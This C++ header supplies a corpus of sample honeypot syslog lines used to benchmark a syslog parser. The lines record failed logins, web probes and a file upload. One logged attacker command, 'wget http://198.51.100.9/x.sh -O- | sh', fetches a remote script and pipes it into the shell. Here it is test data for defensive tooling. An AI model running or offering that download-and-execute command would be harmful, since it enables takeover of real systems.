// A corpus of realistic DECNET lines for the benchmarks: what the decky services, the SSH decky's
// PROMPT_COMMAND (double-wrapped by the Docker stdout envelope) and native daemons send.
#pragma once

#include <string>
#include <vector>

namespace decnet::syslog::bench {

inline std::vector<std::string> Corpus() {
  return {
      R"(<134>1 2026-05-02T06:22:48.089309+00:00 omega-decky ssh - login_attempt [relay@55555 src_ip="192.168.1.5" src_port="42772" username="root" password="toor" method="password"] Failed login)",
      R"(<134>1 2026-05-02T06:22:48.091002+00:00 omega-decky http - request [relay@55555 src_ip="203.0.113.77" method="GET" path="/wp-login.php" ua="Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36" status="404"])",
      R"(<134>1 2026-05-02T06:22:48.100000+00:00 relay-decky smtp - connect [relay@55555 src_ip="198.51.100.23" src_port="51234"])",
      R"(<134>1 2026-05-02T06:22:48.120000+00:00 relay-decky smtp - disconnect [relay@55555 src_ip="198.51.100.23"])",
      R"(<134>1 2026-05-02T06:22:48.130000+00:00 db-decky mysql - auth_attempt [relay@55555 src_ip="2001:db8:85a3::8a2e:370:7334" username="sa" password="P@ss\"w0rd\]"] Access denied)",
      "<14>1 2026-05-02T06:22:48.089309+00:00 omega-decky 1 - - -  "
      "2026-05-02T06:22:48.089286+00:00 "
      "SRV-DELTA-77 bash - command [timeQuality tzKnown=\"1\" isSynced=\"1\" "
      "syncAccuracy=\"326228\"] "
      "CMD uid=0 user=root src=192.168.1.5 pwd=/root cmd=wget http://198.51.100.9/x.sh -O- | sh",
      "<38>1 2026-05-02T06:22:49.000000+00:00 omega-decky sshd 4242 - - Failed password for root "
      "from "
      "192.168.1.5 port 42772 ssh2",
      R"(<132>1 2026-05-02T06:22:50.500000+00:00 ftp-decky ftp - file_upload [relay@55555 src_ip="10.20.30.40" filename="/pub/evil.bin" size="48213" sha256="9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"] upload stored)",
  };
}

}  // namespace decnet::syslog::bench
